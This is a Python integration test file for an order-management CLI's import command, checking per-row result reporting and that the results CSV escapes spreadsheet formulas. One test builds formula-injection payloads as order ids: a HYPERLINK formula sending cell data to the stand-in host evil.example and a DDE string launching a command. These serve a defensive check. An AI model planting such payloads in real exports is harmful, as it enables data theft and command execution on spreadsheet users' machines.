"""`oms import` end to end: the real CLI against the real API served by uvicorn (the `api_url`
server of the `oms ops` tests), over the test worker, Temporal and PostgreSQL."""

import asyncio
import csv
import io
import json
import secrets
from pathlib import Path

import httpx
from click.testing import Result
from typer.testing import CliRunner

from cli import app as oms
from domain.spreadsheet import FORMULA_TRIGGERS
from tests.data.marketplace_orders import COLUMNS, row
from tests.integration.helpers import new_sku
from tests.integration.test_ops_cli import api_url

__all__ = ["api_url"]

DATA = Path(__file__).parents[1] / "data"


async def oms_import(api_url: str, *args: str) -> Result:
    argv = ["import", *args, "--api-url", api_url, "--api-key", "dev-client-key"]
    return await asyncio.to_thread(CliRunner().invoke, oms, argv, env={"COLUMNS": "220"})


async def test_import_prints_and_writes_per_row_results(api: httpx.AsyncClient, api_url: str, tmp_path: Path) -> None:
    sku = await new_sku(api, {"WH-EAST": 5})
    good = json.loads((DATA / "storefront_order.json").read_text(encoding="utf-8"))
    good.update(id=secrets.randbelow(10**12), line_items=[{"sku": sku, "quantity": 1, "price": "99.00"}])
    good["customer"]["id"] = secrets.randbelow(10**9)
    bad = {**good, "id": secrets.randbelow(10**12), "email": "nobody", "currency": "yuan"}
    export = tmp_path / "orders.json"
    export.write_text(json.dumps([good, bad]), encoding="utf-8")
    results = tmp_path / "results.json"

    first = await oms_import(api_url, str(export), "--channel", "storefront", "--output", str(results))
    assert first.exit_code == 1, first.output  # a row was rejected
    assert "1 created, 0 duplicate, 1 rejected, 0 failed of 2 rows" in first.output
    written = json.loads(results.read_text(encoding="utf-8"))
    assert [(r["row"], r["outcome"]) for r in written] == [(1, "created"), (2, "rejected")]
    assert written[0]["order_id"] and written[0]["channel_order_id"] == str(good["id"])
    assert sorted(reason.split(":")[0] for reason in written[1]["reasons"]) == ["item 2, currency", "item 2, email"]

    again = await oms_import(api_url, str(export), "--channel", "storefront", "--problems-only")
    assert "0 created, 1 duplicate, 1 rejected, 0 failed of 2 rows" in again.output
    # --problems-only lists the rejected row, not the duplicate. (The worker shares this process,
    # so its log lines can land in the captured output too: only table rows count.)
    cells = [[cell.strip() for cell in line.split("│")] for line in again.output.splitlines() if line.startswith("│")]
    assert [(row[1], row[3]) for row in cells if row[1]] == [("2", "rejected")]

    unknown = await oms_import(api_url, str(export), "--channel", "fax")
    assert unknown.exit_code == 2 and "one of storefront, marketplace, social" in unknown.output
    not_json = tmp_path / "orders.txt"
    not_json.write_text("id,sku\n", encoding="utf-8")
    unreadable = await oms_import(api_url, str(not_json), "--channel", "social")
    assert unreadable.exit_code == 2 and "file" in unreadable.output


async def test_results_csv_of_a_hostile_export_runs_no_formula(api: httpx.AsyncClient, api_url: str, tmp_path: Path) -> None:
    """A shop's export whose order ids are spreadsheet formulas: the results CSV we write shows them
    as text (a leading quote), whether the order was created or rejected."""
    sku = await new_sku(api, {"WH-EAST": 5})
    token = secrets.token_hex(4)
    hyperlink = f'=HYPERLINK("http://evil.example/?leak={token}"&A1,"open")'
    dde = f"@SUM(1+1)*cmd|' /C calc {token}'!A0"
    bad = {**row(dde, sku, "99.00", 2), "buyer-email": "-not-an-address"}
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows([row(hyperlink, sku, "99.00", 1), bad])
    export = tmp_path / "hostile.csv"
    export.write_text(out.getvalue(), encoding="utf-8")
    results = tmp_path / "results.csv"

    done = await oms_import(api_url, str(export), "--channel", "marketplace", "--output", str(results))
    assert "1 created, 0 duplicate, 1 rejected, 0 failed of 2 rows" in done.output, done.output
    assert hyperlink in done.output  # the terminal shows the id as it is (Rich markup-safe too)
    header, *rows = list(csv.reader(io.StringIO(results.read_text(encoding="utf-8"))))
    assert header == ["row", "channel_order_id", "outcome", "order_id", "reasons"]
    assert [(r[0], r[1], r[2]) for r in rows] == [("2", "'" + hyperlink, "created"), ("3", "'" + dde, "rejected")]
    assert all(not cell or cell[0] not in FORMULA_TRIGGERS for r in rows for cell in r)
    assert "buyer-email" in rows[1][4]
